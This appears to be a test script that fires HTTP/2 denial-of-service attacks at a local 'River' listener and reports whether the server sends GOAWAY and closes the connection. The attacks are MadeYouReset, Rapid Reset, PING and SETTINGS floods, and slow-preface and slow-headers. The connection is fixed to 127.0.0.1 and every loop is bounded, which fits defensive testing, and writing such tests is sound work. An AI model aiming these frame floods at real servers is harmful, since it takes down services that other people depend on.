#!/usr/bin/python3
"""HTTP/2 attacks on a River listener, built from real frames (python3-h2's hyperframe and hpack).

Prints one JSON line: how many frames the attacker wrote before River closed the connection, the
GOAWAY River sent (error code, last stream id), and whether the connection was closed.

Attacks:
  madeyoureset-window  HEADERS (END_STREAM) then WINDOW_UPDATE with a zero increment on the stream
  madeyoureset-data    HEADERS (END_STREAM) then DATA on the now half-closed stream
  rapid-reset          HEADERS then RST_STREAM(CANCEL) from the client
  ping-flood           PING frames only
  settings-flood       SETTINGS frames only
  idle                 the preface and SETTINGS, then nothing (waits for River to close)
  slow-preface         the preface one byte at a time, one byte per --interval seconds
  slow-headers         a HEADERS frame one byte at a time
Every loop is bounded by --streams (frames) and --timeout (seconds).
"""
import argparse
import json
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(args):
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=args.timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
        if sock.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not select h2")
    return sock


class Reader:
    """Reads River's frames without blocking the attack; remembers GOAWAY and end of stream."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.frames = 0

    def poll(self, wait):
        self.sock.settimeout(wait)
        try:
            while not self.closed:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.buf += data
                self._parse()
                self.sock.settimeout(0.0001 if wait == 0 else wait)
        except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
            pass
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
            self.closed = True

    def _parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.frames += 1
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = {"error_code": frame.error_code, "last_stream_id": frame.last_stream_id}


def request_headers(encoder, stream_id, end_stream=True):
    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"),
                            (":path", "/echo/attack"), ("user-agent", "h2attack")])
    f = HeadersFrame(stream_id, block)
    f.flags.add("END_HEADERS")
    if end_stream:
        f.flags.add("END_STREAM")
    return f.serialize()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--attack", required=True)
    p.add_argument("--streams", type=int, default=20000)
    p.add_argument("--timeout", type=float, default=30)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--tls", action="store_true")
    args = p.parse_args()

    sock = connect(args)
    reader = Reader(sock)
    deadline = time.monotonic() + args.timeout
    sent = 0
    write_failed = False

    def send(data):
        nonlocal write_failed
        try:
            sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            write_failed = True
            return False

    started = time.monotonic()
    if args.attack == "slow-preface":
        for b in (PREFACE + SettingsFrame(0).serialize()):
            if time.monotonic() > deadline or not send(bytes([b])):
                break
            sent += 1
            reader.poll(args.interval)
            if reader.closed:
                break
    else:
        send(PREFACE + SettingsFrame(0).serialize())
        encoder = Encoder()
        if args.attack == "idle":
            while time.monotonic() < deadline and not reader.closed:
                reader.poll(1.0)
        elif args.attack == "slow-headers":
            for b in request_headers(encoder, 1, True):
                if time.monotonic() > deadline or not send(bytes([b])):
                    break
                sent += 1
                reader.poll(args.interval)
                if reader.closed:
                    break
        else:
            batch = []
            for i in range(args.streams):
                stream_id = 2 * i + 1
                if args.attack == "madeyoureset-window":
                    batch.append(request_headers(encoder, stream_id))
                    batch.append(WindowUpdateFrame(stream_id, 0).serialize())
                elif args.attack == "madeyoureset-data":
                    batch.append(request_headers(encoder, stream_id))
                    d = DataFrame(stream_id, b"x")
                    batch.append(d.serialize())
                elif args.attack == "rapid-reset":
                    batch.append(request_headers(encoder, stream_id))
                    batch.append(RstStreamFrame(stream_id, 8).serialize())
                elif args.attack == "ping-flood":
                    batch.append(PingFrame(0, (i % 256).to_bytes(1, "big") * 8).serialize())
                elif args.attack == "settings-flood":
                    batch.append(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize())
                else:
                    raise SystemExit("unknown attack " + args.attack)
                if len(batch) >= 200:
                    if not send(b"".join(batch)):
                        break
                    sent += len(batch)
                    batch = []
                    reader.poll(0)
                    if reader.closed or time.monotonic() > deadline:
                        break
            if batch and not write_failed and not reader.closed and send(b"".join(batch)):
                sent += len(batch)
            while time.monotonic() < deadline and not reader.closed:
                reader.poll(0.5)
    elapsed = time.monotonic() - started
    print(json.dumps({"attack": args.attack, "frames_sent": sent, "goaway": reader.goaway,
                      "closed": reader.closed or write_failed, "seconds": round(elapsed, 3),
                      "frames_received": reader.frames}))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
